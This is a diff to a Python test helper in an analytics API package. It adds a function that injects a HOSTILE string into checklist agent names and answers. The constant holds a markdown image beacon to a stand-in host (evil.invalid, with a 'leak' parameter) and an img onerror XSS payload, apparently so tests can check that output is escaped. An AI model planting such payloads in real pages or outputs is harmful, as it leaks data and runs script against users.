@@ -2,7 +2,7 @@
 
 from typing import Any
 
-from analytics.api.models import ErrorChainDetail, ErrorChains, SpanDetail, Waits
+from analytics.api.models import Checklist, ErrorChainDetail, ErrorChains, SpanDetail, Waits
 
 HOSTILE = (
     "![x](https://evil.invalid/p.png?leak=1) <img src=https://evil.invalid/i.png onerror=alert(1)> "
@@ -80,3 +80,17 @@ def hostile_chain(found: ErrorChainDetail) -> ErrorChainDetail:
         traces=[one.model_copy(update=whose) for one in found.traces],
         hops=[hop.model_copy(update=texts) for hop in found.hops],
     )
+
+
+def hostile_checklist(found: Checklist) -> Checklist:
+    """Return a checklist of agents whose names, and what was found about them, attack."""
+    items = [
+        one.model_copy(
+            update={
+                "agent": f"{HOSTILE} {one.agent}",
+                "answers": [each.model_copy(update={"sentence": HOSTILE}) for each in one.answers],
+            }
+        )
+        for one in found.items
+    ]
+    return found.model_copy(update={"items": items})
